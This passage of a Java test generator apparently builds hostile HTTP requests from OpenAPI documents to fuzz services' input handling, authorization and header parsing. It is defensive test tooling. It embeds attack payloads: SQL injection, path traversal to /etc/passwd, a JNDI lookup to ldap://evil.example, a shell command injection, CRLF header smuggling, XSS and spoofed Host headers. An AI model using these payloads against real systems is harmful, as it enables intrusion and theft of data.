package org.dcis.e2e.hostile;

import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Collections;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeSet;
import java.util.function.IntFunction;

import com.fasterxml.jackson.core.JsonParser;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;

/**
 * Turns the OpenAPI documents into hostile requests, deterministically from a seed: for every operation a
 * valid base (from the document's examples, enums and formats, and real ids and countries of the stack),
 * then one mutation per request on one parameter, header, body field or the body as a whole, plus the
 * role matrix (the valid base as every identity, through the gateway and straight at the service).
 */
final class Generator {
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    /** Parses what we send to learn whether it is one well-formed JSON value (duplicate keys are not). */
    private static final ObjectMapper STRICT = new ObjectMapper().enable(JsonParser.Feature.STRICT_DUPLICATE_DETECTION)
            .enable(com.fasterxml.jackson.databind.DeserializationFeature.FAIL_ON_TRAILING_TOKENS);
    /** Share of requests sent as a caller the operation's security allows; the rest go to everyone else. */
    private static final double PRINCIPAL_SHARE = 0.8;

    /** Strings no field should trip over: injection attempts of every kind (none of them looks like a leak). */
    static final List<String> INJECTIONS = List.of(
            "' OR '1'='1", "'; DROP TABLE cooperation_case; --", "1) UNION ALL SELECT NULL,NULL,NULL--", "\\'; --",
            "\" OR \"\"=\"", "{\"$gt\": \"\"}", "\",\"admin\":true,\"x\":\"", "../../../../etc/passwd",
            "..\\..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "x\r\nSet-Cookie: hostile=1",
            "x\r\n\r\n<html>smuggled</html>", "${jndi:ldap://evil.example/a}", "#{7*7}{{7*7}}<%= 7*7 %>",
            "<script>alert(1)</script>", "%s%s%s%n%x", "%_%", "\\", "*)(uid=*))(|(uid=*", "; cat /etc/passwd |");
    static final List<String> CONTROLS = List.of("a\u0000b", "\u0000", "\u0001\u0002\u0003\u001f", "\u001b[31mred", "\u007f",
            "line\r\nbreak", "tab\there", "\u0085\u2028\u2029", "\ufeffbom", "\u202eevil.exe");
    static final List<String> UNICODE = List.of("\ud83d\ude00\ud83d\udd25", "e\u0301\u0301\u0301", "\u00a0\u00a0", "\u0627\u0644\u0639\u0631\u0628\u064a\u0629",
            "\u4e2d\u6587", "\uffff\ufffe");

    private final long seed;
    private final World world;
    private final Map<String, ApiDocument> documents;
    private final Map<String, SchemaCheck> checks = new LinkedHashMap<>();
    private final List<Identity> identities;
    private final Random random;
    private int seq;

    Generator(long seed, World world, List<ApiDocument> documents, List<Identity> identities) {
        this.seed = seed;
        this.world = world;
        this.documents = new LinkedHashMap<>();
        for (ApiDocument document : documents) {
            this.documents.put(document.service.name(), document);
            checks.put(document.service.name(), new SchemaCheck(document));
        }
        this.identities = identities;
        this.random = new Random(seed);
    }

    /** Every case of the catalogue once, then random repeats (other identity, other target) up to minimum. */
    List<Probe> generate(int minimum) {
        List<IntFunction<Probe>> catalogue = new ArrayList<>();
        Set<String> pathsSeen = new TreeSet<>();
        for (ApiDocument document : documents.values()) {
            for (ApiDocument.Operation op : document.operations) {
                catalogue.addAll(roleMatrix(op));
                catalogue.addAll(parameterCases(op));
                catalogue.addAll(headerCases(op));
                catalogue.addAll(authorizationCases(op));
                if (op.hasBody()) {
                    catalogue.addAll(bodyCases(op));
                }
                if (pathsSeen.add(op.service().name() + " " + op.path())) {
                    catalogue.addAll(methodCases(document, op));
                }
            }
        }
        List<Probe> probes = new ArrayList<>();
        for (IntFunction<Probe> factory : catalogue) {
            Probe first = factory.apply(seq++);
            probes.add(first);
            if (first.location.equals("caller")) {
                continue; // the role matrix already goes both ways
            }
            Probe second = factory.apply(seq++);
            second.viaGateway = !first.viaGateway;
            if (second.prelude != null) {
                second.prelude.viaGateway = second.viaGateway;
            }
            probes.add(second);
        }
        while (probes.size() < minimum) {
            probes.add(catalogue.get(random.nextInt(catalogue.size())).apply(seq++));
        }
        Collections.shuffle(probes, random);
        return probes;
    }

    // ------------------------------------------------------------------ the valid base of an operation

    /** A request of the operation that should pass every check: the caller's own resource, a valid body. */
    private Probe base(int n, ApiDocument.Operation op, String location, String mutation) {
        Probe probe = new Probe(n, op, location, mutation);
        probe.headers.add(RawHttp.Header.of("Accept", "application/json"));
        if (op.hasBody()) {
            probe.headers.add(RawHttp.Header.of("Content-Type", "application/json"));
            JsonNode body = baseBody(op, n);
            probe.json = body;
            probe.body = Bodies.bytes(body);
        }
        if (op.hasHeader("If-Match")) {
            probe.ifMatch = Probe.IfMatch.CURRENT;
        }
        if (op.hasHeader("Idempotency-Key")) {
            probe.idempotencyKey = "hostile-" + world.runTag + "-" + seed + "-" + n;
            probe.headers.add(RawHttp.Header.of("Idempotency-Key", probe.idempotencyKey));
        }
        World.Collection collection = world.collectionOf(op);
        if (world.isCreate(op)) {
            probe.create = true;
            probe.writeCollection = collection.key();
        } else if (world.isItemWrite(op)) {
            probe.writeCollection = collection.key();
            probe.writeId = world.fixtures.get(op.key());
        }
        probe.target = target(op, Map.of(), "");
        return probe;
    }

    /** The request target: the path with its parameters (given raw, else the fixture's) and a raw query. */
    private byte[] target(ApiDocument.Operation op, Map<String, String> rawPathValues, String rawQuery) {
        String path = op.path();
        for (String name : op.pathParamNames()) {
            String value = rawPathValues.containsKey(name) ? rawPathValues.get(name) : encode(fixtureOf(op, name));
            path = path.replace("{" + name + "}", value);
        }
        return (path + (rawQuery.isEmpty() ? "" : "?" + rawQuery)).getBytes(StandardCharsets.ISO_8859_1);
    }

    private String fixtureOf(ApiDocument.Operation op, String param) {
        String id = world.fixtures.get(op.key() + "#" + param);
        if (id == null) {
            id = world.fixtures.get(op.key());
        }
        if (id == null) {
            throw new IllegalStateException("no value for path parameter " + param + " of " + op.key());
        }
        return id;
    }

    /** The valid body: the document's request example when there is one, else built from the schema. */
    JsonNode baseBody(ApiDocument.Operation op, int n) {
        return body(op, n, null);
    }

    /** The valid body of a fixture: a post in a country of its own, identifiers nobody else uses. */
    JsonNode fixtureBody(ApiDocument.Operation op, int n, String hostCountry) {
        return body(op, n, hostCountry);
    }

    private JsonNode body(ApiDocument.Operation op, int n, String fixtureCountry) {
        ApiDocument document = documents.get(op.service().name());
        JsonNode body = op.bodyExample() != null ? op.bodyExample().deepCopy() : fromSchema(document, op.bodySchema(), "", 0);
        boolean fromExample = op.bodyExample() != null;
        if (body instanceof ObjectNode object) {
            adapt(document, op, object, op.bodySchema(), fromExample, n, 0, fixtureCountry);
        }
        return body;
    }

    /**
     * Valid values the document cannot know: the stack's today for dates it did not give, the run's own
     * identifiers for what a create names (so that demo data is never written), free countries for what a
     * post claims, the run's post for an assignment.
     */
    private void adapt(ApiDocument document, ApiDocument.Operation op, ObjectNode object, JsonNode schemaNode, boolean fromExample,
            int n, int depth, String fixtureCountry) {
        String country = fixtureCountry != null ? fixtureCountry : world.createPostCountry;
        JsonNode schema = document.resolve(schemaNode);
        JsonNode properties = schema.path("properties");
        for (Iterator<String> names = properties.fieldNames(); names.hasNext();) {
            String name = names.next();
            JsonNode property = document.resolve(properties.get(name));
            JsonNode value = object.get(name);
            if (value == null) {
                continue;
            }
            if (property.path("format").asText("").equals("date") && !fromExample) {
                object.put(name, world.today);
            }
            switch (name) {
                case "id" -> {
                    if (depth == 0 && world.isCreate(op)) {
                        object.put(name, freshPostId(country, n));
                    } else if (depth > 0) {
                        object.put(name, fixtureCountry != null ? "E2E-H" + world.runTag + "-F" + n
                                : world.officerIds.get(Math.floorMod(n, world.officerIds.size())));
                    }
                }
                case "code" -> {
                    if (depth == 0 && world.isCreate(op)) {
                        object.put(name, fixtureCountry != null ? "E2E-H" + world.runTag + "-F" + n
                                : world.missionCodes.get(Math.floorMod(n, world.missionCodes.size())));
                    }
                }
                case "hostCountry" -> object.put(name, country);
                case "coverage" -> object.set(name, NODES.arrayNode());
                case "postId" -> object.put(name, world.assignmentPost);
                case "countries" -> {
                    if (!fromExample && world.isItemWrite(op)) {
                        // The whole coverage: the host, and every other time a spare free country, so that
                        // one valid base in two changes something (the same coverage again is a 422).
                        ArrayNode coverage = NODES.arrayNode();
                        coverage.add(world.postHosts.getOrDefault(world.fixtures.get(op.key()), world.countries.get(0)));
                        if (Math.floorMod(n, 2) == 0) {
                            coverage.add(world.spareCountry);
                        }
                        object.set(name, coverage);
                    }
                }
                default -> {
                }
            }
            if (property.path("type").asText("").equals("object") && object.get(name) instanceof ObjectNode child) {
                adapt(document, op, child, property, fromExample, n, depth + 1, fixtureCountry);
            }
        }
    }

    /** A post id of this run: the country it claims, the e2e marker, the run tag and a number (at most 20 chars). */
    String freshPostId(String country, int n) {
        return country + "-E2E-H" + world.runTag + Integer.toString(n, 36).toUpperCase(Locale.ROOT);
    }

    /** A value for a schema: its example, first enum value, today for a date, else a short text. */
    JsonNode fromSchema(ApiDocument document, JsonNode schemaNode, String name, int depth) {
        JsonNode schema = document.resolve(schemaNode);
        JsonNode examples = schema.path("examples");
        if (schema.path("enum").isArray() && schema.path("enum").size() > 0) {
            if (examples.isArray() && examples.size() > 0) {
                return examples.get(0).deepCopy();
            }
            return schema.path("enum").get(0).deepCopy();
        }
        String type = schema.path("type").asText(schema.has("properties") ? "object" : "string");
        switch (type) {
            case "object" -> {
                ObjectNode object = NODES.objectNode();
                Set<String> required = new TreeSet<>();
                schema.path("required").forEach(r -> required.add(r.asText()));
                for (Iterator<Map.Entry<String, JsonNode>> it = schema.path("properties").fields(); it.hasNext();) {
                    Map.Entry<String, JsonNode> property = it.next();
                    JsonNode p = document.resolve(property.getValue());
                    boolean isObject = p.path("type").asText("").equals("object") || p.has("properties");
                    // An optional property is in the base when the property itself shows an example (not the
                    // schema it refers to: every LocalDate has one) or is an object.
                    boolean exemplified = property.getValue().has("examples") || property.getValue().has("example");
                    if (depth < 4 && (required.contains(property.getKey()) || exemplified || isObject)) {
                        object.set(property.getKey(), fromSchema(document, p, property.getKey(), depth + 1));
                    }
                }
                return object;
            }
            case "array" -> {
                if (examples.isArray() && examples.size() > 0 && examples.get(0).isArray()) {
                    return examples.get(0).deepCopy();
                }
                ArrayNode array = NODES.arrayNode();
                if (schema.path("minItems").asInt(0) > 0) {
                    array.add(fromSchema(document, schema.path("items"), name, depth + 1));
                }
                return array;
            }
            case "integer", "number" -> {
                if (examples.isArray() && examples.size() > 0) {
                    return examples.get(0).deepCopy();
                }
                return NODES.numberNode(schema.has("minimum") ? Math.max(1, schema.get("minimum").asLong()) : 1);
            }
            case "boolean" -> {
                return NODES.booleanNode(false);
            }
            default -> {
                String format = schema.path("format").asText("");
                if (format.equals("date")) {
                    return NODES.textNode(world.today);
                }
                if (format.equals("date-time")) {
                    return NODES.textNode(world.today + "T12:00:00Z");
                }
                if (format.equals("uuid")) {
                    return NODES.textNode(new java.util.UUID(random.nextLong(), random.nextLong()).toString());
                }
                if (examples.isArray() && examples.size() > 0) {
                    return examples.get(0).deepCopy();
                }
                if (name.toLowerCase(Locale.ROOT).contains("countr")) {
                    return NODES.textNode(world.countries.get(0));
                }
                String text = "E2E hostile " + name;
                if (schema.has("pattern") && !java.util.regex.Pattern.compile(schema.get("pattern").asText()).matcher(text).find()) {
                    text = "E2E-HOSTILE-" + world.runTag;
                }
                int max = schema.path("maxLength").asInt(Integer.MAX_VALUE);
                return NODES.textNode(text.length() > max ? text.substring(0, max) : text);
            }
        }
    }

    // ------------------------------------------------------------------ who sends it, and where

    /** Through the gateway or straight at the service, as the operation's principal most of the time. */
    private Probe routed(Probe probe) {
        probe.viaGateway = random.nextBoolean();
        List<Identity> principals = principals(probe.op);
        if (random.nextDouble() < PRINCIPAL_SHARE && !principals.isEmpty()) {
            probe.identity = principals.get(random.nextInt(principals.size()));
        } else {
            List<Identity> others = identities.stream().filter(i -> !principals.contains(i)).toList();
            probe.identity = others.get(random.nextInt(others.size()));
        }
        return authorized(probe);
    }

    /** The identities that speak for the roles the operation's security names (every user when it names none). */
    List<Identity> principals(ApiDocument.Operation op) {
        List<String> roles = world.rolesOf(op);
        List<Identity> principals = new ArrayList<>();
        for (Identity identity : identities) {
            if (!identity.authenticated() || identity.name().equals("officer.bogota")) {
                continue;
            }
            boolean isUser = identity.name().contains(".");
            if (roles.isEmpty() ? isUser : roles.contains(identity.role()) && identity.name().equals(Identity.userOf(identity.role()))) {
                principals.add(identity);
            }
        }
        return principals;
    }

    /** What the identity alone forbids: no valid token, a role the operation does not name, another post's officer writing. */
    private Probe authorized(Probe probe) {
        Identity identity = probe.identity;
        if (probe.auth == Probe.Auth.IDENTITY) {
            if (!identity.authenticated()) {
                probe.refuse("no valid bearer token (" + identity.name() + ")");
            } else if (probe.op.secured() && !probe.op.roles().isEmpty() && !probe.op.roles().contains(identity.role())) {
                probe.refuse("role " + identity.role() + " is not in the operation's security " + probe.op.roles());
            } else if (identity.name().equals("officer.bogota") && !probe.op.isRead() && probe.op.roles().contains("officer")) {
                probe.refuse("an officer writes only for the post in their token (officer.bogota is not " + world.officerPost + ")");
            }
        }
        return probe;
    }

    // ------------------------------------------------------------------ the role matrix

    private List<IntFunction<Probe>> roleMatrix(ApiDocument.Operation op) {
        List<IntFunction<Probe>> cases = new ArrayList<>();
        for (Identity identity : identities) {
            for (boolean gateway : new boolean[] { true, false }) {
                cases.add(n -> {
                    Probe probe = base(n, op, "caller", "valid base as " + identity.name());
                    probe.identity = identity;
                    probe.viaGateway = gateway;
                    return authorized(probe);
                });
            }
        }
        return cases;
    }

    // ------------------------------------------------------------------ parameters

    private List<IntFunction<Probe>> parameterCases(ApiDocument.Operation op) {
        List<IntFunction<Probe>> cases = new ArrayList<>();
        for (ApiDocument.Param param : op.params()) {
            switch (param.in()) {
                case "query" -> {
                    for (Value value : queryValues(op, param)) {
                        cases.add(n -> {
                            Probe probe = base(n, op, "query " + param.name(), value.name);
                            probe.target = target(op, Map.of(), param.name() + "=" + value.raw);
                            String violation = paramViolation(param, value.decoded);
                            if (violation != null) {
                                probe.refuse(violation);
                                probe.namedField = param.name();
                            }
                            return routed(probe);
                        });
                    }
                }
                case "path" -> {
                    for (Value value : pathValues(op, param)) {
                        cases.add(n -> {
                            Probe probe = base(n, op, "path " + param.name(), value.name);
                            // Still tracked as a write of the fixture: "id in lower case" may name the same resource.
                            probe.target = target(op, Map.of(param.name(), value.raw), "");
                            return routed(probe);
                        });
                    }
                }
                case "header" -> {
                    if (param.name().equalsIgnoreCase("If-Match")) {
                        cases.addAll(ifMatchCases(op));
                    } else if (param.name().equalsIgnoreCase("Idempotency-Key")) {
                        cases.addAll(idempotencyCases(op));
                    }
                }
                default -> {
                }
            }
        }
        List<ApiDocument.Param> query = op.params("query");
        if (!query.isEmpty()) {
            ApiDocument.Param first = query.get(0);
            cases.add(n -> routed(withQuery(base(n, op, "query", "unknown parameter"), op, "hostileUnknown=1")));
            cases.add(n -> routed(withQuery(base(n, op, "query " + first.name(), "repeated parameter"), op,
                    first.name() + "=" + encode(example(first)) + "&" + first.name() + "=" + encode(example(first)))));
            cases.add(n -> routed(withQuery(base(n, op, "query", "bad percent escape in a name"), op, "%zz=1")));
            cases.add(n -> routed(withQuery(base(n, op, "query", "2 000 parameters"), op,
                    String.join("&", Collections.nCopies(2000, "p=1")))));
            boolean hasFrom = query.stream().anyMatch(p -> p.name().equals("from"));
            boolean hasTo = query.stream().anyMatch(p -> p.name().equals("to"));
            if (hasFrom && hasTo) {
                cases.add(n -> routed(withQuery(base(n, op, "query from,to", "reversed range"), op,
                        "from=" + world.today + "&to=" + LocalDate.parse(world.today).minusYears(1))));
            }
        }
        return cases;
    }

    private Probe withQuery(Probe probe, ApiDocument.Operation op, String rawQuery) {
        probe.target = target(op, Map.of(), rawQuery);
        return probe;
    }

    private static String example(ApiDocument.Param param) {
        return param.example() != null ? param.example() : "x";
    }

    /** A value as sent (raw, already percent-encoded as intended) and as the server should decode it (null: undecodable). */
    record Value(String name, String raw, String decoded) {
        static Value of(String name, String decoded) {
            return new Value(name, encode(decoded), decoded);
        }
    }

    private List<Value> queryValues(ApiDocument.Operation op, ApiDocument.Param param) {
        List<Value> values = new ArrayList<>();
        String type = param.type();
        if (type.equals("integer") || type.equals("number")) {
            for (String v : List.of("abc", "1.5", "-1", "0", "2147483647", "2147483648", "-2147483649", "99999999999999999999",
                    "1e3", "0x10", " 1", "", "20000000", "NaN", "١٢")) {
                values.add(Value.of("'" + v + "'", v));
            }
            return values;
        }
        values.addAll(stringValues(param.example()));
        String name = param.name().toLowerCase(Locale.ROOT);
        if (name.equals("sort")) {
            for (String v : List.of(",", ",desc", "id,desc,asc", "nosuchfield", "id;DROP TABLE x", " ", "version,DESC", "city,up",
                    "createdAt,desc", "-id", "id desc", "1")) {
                values.add(Value.of("sort '" + v + "'", v));
            }
        }
        if (Set.of("from", "to", "on").contains(name) || (param.example() != null && param.example().matches("\\d{4}-\\d{2}-\\d{2}"))) {
            for (String v : dateStrings()) {
                values.add(Value.of("date '" + v + "'", v));
            }
        }
        return values;
    }

    /** Dates broken every way, and two edge dates that are valid. */
    List<String> dateStrings() {
        LocalDate today = LocalDate.parse(world.today);
        return List.of("2026-02-30", "2026-13-01", "20261202", "-5000-01-01", "+99999-01-01", "0000-01-01", "10000-01-01",
                "02/12/2026", "2026-1-2", "today", "2026-12-02T10:00:00Z", "0001-01-01", "9999-12-31",
                today.plusYears(1).toString(), "1900-01-01");
    }

    /** Strings for any text parameter: empty, blank, huge, control characters, surrogates, unicode, injections, bad enums. */
    private List<Value> stringValues(String example) {
        List<Value> values = new ArrayList<>();
        values.add(Value.of("empty", ""));
        values.add(Value.of("blank", "   "));
        values.add(Value.of("1 000 chars", "x".repeat(1000)));
        values.add(Value.of("huge 6 000 chars (URL over 4 KiB)", "x".repeat(6000)));
        values.add(Value.of("huge 100 000 chars", "x".repeat(100_000)));
        for (String c : CONTROLS) {
            values.add(Value.of("control " + visible(c), c));
        }
        values.add(new Value("lone surrogate as raw UTF-8 bytes (%ED%A0%80)", "a%ED%A0%80b", null));
        values.add(new Value("invalid UTF-8 (%FF%FE)", "%FF%FE", null));
        values.add(new Value("overlong UTF-8 (%C0%AE)", "%C0%AE%C0%AE", null));
        values.add(new Value("bad percent escape %zz", "%zz", null));
        values.add(new Value("truncated percent escape", "abc%", null));
        values.add(new Value("raw space and quote", "a b\"c", null));
        for (String u : UNICODE) {
            values.add(Value.of("unicode " + visible(u), u));
        }
        for (String injection : INJECTIONS) {
            values.add(Value.of("injection " + visible(injection), injection));
        }
        values.add(Value.of("invalid enum NOT_A_VALUE", "NOT_A_VALUE"));
        values.add(Value.of("number 0", "0"));
        values.add(Value.of("negative -1", "-1"));
        if (example != null) {
            values.add(Value.of("example in lower case", example.toLowerCase(Locale.ROOT)));
            values.add(Value.of("example padded with spaces", "  " + example + "  "));
            values.add(Value.of("valid example", example));
        }
        return values;
    }

    private List<Value> pathValues(ApiDocument.Operation op, ApiDocument.Param param) {
        String real = fixtureOf(op, param.name());
        List<Value> values = new ArrayList<>();
        boolean uuid = real.matches("[0-9a-fA-F-]{36}");
        values.add(Value.of("unknown id", uuid ? new java.util.UUID(random.nextLong(), random.nextLong()).toString() : "ZZ-NOWHERE-404"));
        values.add(Value.of("id in lower case", real.toLowerCase(Locale.ROOT)));
        values.add(Value.of("id in upper case", real.toUpperCase(Locale.ROOT)));
        values.add(new Value("dot-dot", "..", null));
        values.add(new Value("encoded dot-dot", "%2e%2e", null));
        values.add(new Value("encoded slash", "a%2Fb", null));
        values.add(new Value("traversal to q/health", "..%2Fq%2Fhealth", null));
        values.add(new Value("NUL", "%00", null));
        values.add(new Value("CR LF", "a%0D%0Ab", null));
        values.add(new Value("huge 10 000 chars", "A".repeat(10_000), null));
        values.add(new Value("lone surrogate as raw UTF-8 bytes", "%ED%A0%80", null));
        values.add(new Value("bad percent escape", "%zz", null));
        values.add(new Value("matrix parameter", encode(real) + ";jsessionid=x", null));
        values.add(Value.of("blank", " "));
        values.add(Value.of("null", "null"));
        values.add(Value.of("-1", "-1"));
        values.add(Value.of("unicode", "\u00e9\ud83d\ude00"));
        values.add(Value.of("injection quote", "' OR '1'='1"));
        values.add(Value.of("injection traversal", "../../etc/passwd"));
        values.add(Value.of("41 chars", "SN-" + "A".repeat(38)));
        return values;
    }

    /** A query or path parameter value against the parameter's declared schema (types only: the documents declare no more). */
    private static String paramViolation(ApiDocument.Param param, String decoded) {
        if (decoded == null || decoded.isEmpty()) {
            return null;
        }
        if (param.type().equals("integer")) {
            if (!decoded.matches("-?\\d+")) {
                return decoded.codePoints().allMatch(Character::isDigit) ? null : param.name() + ": not an integer";
            }
            java.math.BigInteger n = new java.math.BigInteger(decoded);
            if (param.schema().path("format").asText("").equals("int32") && n.bitLength() > 31) {
                return param.name() + ": outside int32";
            }
        }
        return null;
    }

    // ------------------------------------------------------------------ If-Match and Idempotency-Key

    private List<IntFunction<Probe>> ifMatchCases(ApiDocument.Operation op) {
        List<IntFunction<Probe>> cases = new ArrayList<>();
        cases.add(n -> {
            Probe probe = base(n, op, "header If-Match", "missing");
            probe.ifMatch = Probe.IfMatch.NONE;
            probe.refuse("an update without If-Match is a 428 (conventions)");
            return routed(probe);
        });
        cases.add(n -> {
            Probe probe = base(n, op, "header If-Match", "an older version");
            probe.ifMatch = Probe.IfMatch.STALE;
            probe.refuse("If-Match names an older version: 412 (conventions)");
            return routed(probe);
        });
        Map<String, Boolean> literals = new LinkedHashMap<>();
        literals.put("", true);
        literals.put("\"\"", true);
        literals.put("*", false);
        literals.put("\"0\"", true);
        literals.put("\"-1\"", true);
        literals.put("\"abc\"", true);
        literals.put("1", false);
        literals.put("W/\"1\"", false);
        literals.put("\"99999999999999999999\"", true);
        literals.put("\"1\", \"2\"", false);
        literals.put("\"1.0\"", true);
        literals.put("\"" + "9".repeat(8000) + "\"", true);
        literals.put("\"1\" garbage", false);
        literals.put("\"' OR '1'='1\"", true);
        literals.put("\"\u00e9\"", true);
        for (Map.Entry<String, Boolean> literal : literals.entrySet()) {
            cases.add(n -> {
                Probe probe = base(n, op, "header If-Match", "'" + visible(abbreviate(literal.getKey())) + "'");
                probe.ifMatch = Probe.IfMatch.LITERAL;
                probe.ifMatchLiteral = RawHttp.utf8(literal.getKey());
                if (literal.getValue()) {
                    probe.refuse("If-Match is not a quoted current version");
                    probe.namedField = "If-Match";
                }
                return routed(probe);
            });
        }
        for (byte[] raw : List.of(new byte[] { '"', '1', 0, '"' }, new byte[] { '"', (byte) 0xED, (byte) 0xA0, (byte) 0x80, '"' })) {
            cases.add(n -> {
                Probe probe = base(n, op, "header If-Match", raw[2] == 0 ? "raw NUL byte" : "raw lone surrogate bytes");
                probe.ifMatch = Probe.IfMatch.LITERAL;
                probe.ifMatchLiteral = raw;
                probe.refuse("If-Match is not a quoted current version");
                return routed(probe);
            });
        }
        return cases;
    }

    private List<IntFunction<Probe>> idempotencyCases(ApiDocument.Operation op) {
        List<IntFunction<Probe>> cases = new ArrayList<>();
        Map<String, Boolean> literals = new LinkedHashMap<>();
        literals.put("", false);
        literals.put("k".repeat(200), false);
        literals.put("k".repeat(201), true);
        literals.put("cl\u00e9-non-ascii", true);
        literals.put("with space", true);
        literals.put("tab\tkey", true);
        literals.put("k".repeat(10_000), true);
        literals.put("' OR '1'='1", false);
        literals.put("../../etc/passwd", false);
        for (Map.Entry<String, Boolean> literal : literals.entrySet()) {
            cases.add(n -> {
                Probe probe = base(n, op, "header Idempotency-Key", "'" + visible(abbreviate(literal.getKey())) + "'");
                String key = literal.getKey().length() >= 200 || literal.getKey().isEmpty() ? literal.getKey()
                        : literal.getKey() + "-" + world.runTag + "-" + n;
                if (literal.getKey().length() == 200) {
                    key = (world.runTag + "-" + n + "-" + literal.getKey()).substring(0, 200);
                }
                setIdempotencyKey(probe, RawHttp.utf8(key), key);
                if (literal.getValue()) {
                    probe.refuse("an Idempotency-Key is 1 to 200 visible ASCII characters (conventions)");
                    probe.namedField = "Idempotency-Key";
                }
                return routed(probe);
            });
        }
        cases.add(n -> {
            Probe probe = base(n, op, "header Idempotency-Key", "raw NUL byte");
            setIdempotencyKey(probe, new byte[] { 'k', 0, 'k' }, null);
            probe.refuse("an Idempotency-Key is 1 to 200 visible ASCII characters (conventions)");
            return routed(probe);
        });
        cases.add(n -> {
            Probe probe = base(n, op, "header Idempotency-Key", "reused with another body");
            Probe first = base(n, op, "header Idempotency-Key", "first use of a key");
            routed(probe);
            first.viaGateway = probe.viaGateway;
            first.identity = probe.identity;
            authorized(first);
            probe.prelude = first;
            // The same key, another body: only the second request differs, by one optional text or number.
            probe.json = otherBody(op, probe.json);
            probe.body = Bodies.bytes(probe.json);
            setIdempotencyKey(probe, RawHttp.utf8(first.idempotencyKey), first.idempotencyKey);
            probe.refuse("the same Idempotency-Key with another body is a 422 (conventions)");
            return probe;
        });
        cases.add(n -> {
            Probe probe = base(n, op, "header Idempotency-Key", "replayed with the same body");
            Probe first = base(n, op, "header Idempotency-Key", "first use of a key");
            routed(probe);
            first.viaGateway = probe.viaGateway;
            first.identity = probe.identity;
            authorized(first);
            probe.prelude = first;
            return probe;
        });
        return cases;
    }

    private static void setIdempotencyKey(Probe probe, byte[] raw, String text) {
        probe.headers.removeIf(h -> h.nameText().equalsIgnoreCase("Idempotency-Key"));
        probe.headers.add(RawHttp.Header.raw("Idempotency-Key", raw));
        probe.idempotencyKey = text;
    }

    /** The body with one optional text changed (or a property added), still valid. */
    private JsonNode otherBody(ApiDocument.Operation op, JsonNode body) {
        ObjectNode other = body.deepCopy();
        JsonNode schema = documents.get(op.service().name()).resolve(op.bodySchema());
        for (Iterator<Map.Entry<String, JsonNode>> it = schema.path("properties").fields(); it.hasNext();) {
            Map.Entry<String, JsonNode> p = it.next();
            JsonNode property = documents.get(op.service().name()).resolve(p.getValue());
            if (property.path("type").asText("").equals("string") && !property.has("enum") && !property.has("format")
                    && other.path(p.getKey()).isTextual() && !p.getKey().equals("id") && !p.getKey().equals("code")
                    && !p.getKey().toLowerCase(Locale.ROOT).contains("countr") && !p.getKey().equals("postId")
                    && !p.getKey().equals("leadPost")) {
                other.put(p.getKey(), other.get(p.getKey()).asText() + " (other)");
                return other;
            }
        }
        return other;
    }

    // ------------------------------------------------------------------ headers, authorization, methods

    private List<IntFunction<Probe>> headerCases(ApiDocument.Operation op) {
        List<IntFunction<Probe>> cases = new ArrayList<>();
        cases.add(n -> spoof(base(n, op, "header Host", "Host: evil.example"), "Host", "evil.example"));
        cases.add(n -> spoof(base(n, op, "header X-Forwarded-Host", "X-Forwarded-Host: evil.example"), "X-Forwarded-Host", "evil.example"));
        cases.add(n -> spoof(base(n, op, "header Forwarded", "Forwarded: host=evil.example"), "Forwarded",
                "for=1.2.3.4;host=evil.example;proto=https"));
        cases.add(n -> extra(base(n, op, "header X-Forwarded-Proto", "gopher"), "X-Forwarded-Proto", "gopher".getBytes(StandardCharsets.ISO_8859_1)));
        cases.add(n -> extra(base(n, op, "headers", "huge header 16 KiB"), "X-Hostile", bytes("h".repeat(16 * 1024))));
        cases.add(n -> extra(base(n, op, "headers", "huge header 70 KiB"), "X-Hostile", bytes("h".repeat(70 * 1024))));
        cases.add(n -> {
            Probe probe = base(n, op, "headers", "300 headers");
            for (int i = 0; i < 300; i++) {
                probe.headers.add(RawHttp.Header.of("X-Hostile-" + i, "v"));
            }
            return routed(probe);
        });
        cases.add(n -> extra(base(n, op, "headers", "raw NUL byte in a header value"), "X-Hostile", new byte[] { 'a', 0, 'b' }));
        cases.add(n -> extra(base(n, op, "headers", "raw lone surrogate bytes in a header value"), "X-Hostile",
                new byte[] { 'a', (byte) 0xED, (byte) 0xA0, (byte) 0x80 }));
        cases.add(n -> extra(base(n, op, "headers", "CR LF injected in a header value"), "X-Hostile",
                bytes("a\r\nX-Injected: 1")));
        cases.add(n -> extra(base(n, op, "headers", "bare LF in a header value"), "X-Hostile", bytes("a\nb")));
        cases.add(n -> extra(base(n, op, "headers", "a header line without a colon"), "X-Hostile-No-Colon\r\nBroken", bytes("x")));
        cases.add(n -> extra(base(n, op, "header X-Request-Id", "CR LF and 5 000 chars"), "X-Request-Id",
                bytes("id%0D%0A" + "r".repeat(5000))));
        cases.add(n -> extra(base(n, op, "header X-Request-Id", "injection"), "X-Request-Id", bytes("<script>alert(1)</script>")));
        cases.add(n -> {
            Probe probe = base(n, op, "header Accept", "application/xml");
            probe.headers.removeIf(h -> h.nameText().equals("Accept"));
            probe.headers.add(RawHttp.Header.of("Accept", "application/xml"));
            probe.refuse("the operation offers JSON only: 406 (conventions)");
            return routed(probe);
        });
        cases.add(n -> {
            Probe probe = base(n, op, "header Accept", "*/*;q=0.1, text/html");
            probe.headers.removeIf(h -> h.nameText().equals("Accept"));
            probe.headers.add(RawHttp.Header.of("Accept", "*/*;q=0.1, text/html"));
            return routed(probe);
        });
        cases.add(n -> extra(base(n, op, "header Accept-Language", "huge"), "Accept-Language", bytes("fr-FR,".repeat(500))));
        cases.add(n -> extra(base(n, op, "header Cookie", "junk cookie"), "Cookie", bytes("q_session=' OR 1=1; JSESSIONID=../../")));
        if (op.hasBody()) {
            cases.add(n -> {
                Probe probe = base(n, op, "header Content-Length", "not a number");
                probe.headers.add(RawHttp.Header.of("Content-Length", "abc"));
                probe.refuse("Content-Length is not a number");
                return routed(probe);
            });
            cases.add(n -> {
                Probe probe = base(n, op, "header Content-Length", "two different values");
                probe.headers.add(RawHttp.Header.of("Content-Length", Integer.toString(probe.body.length)));
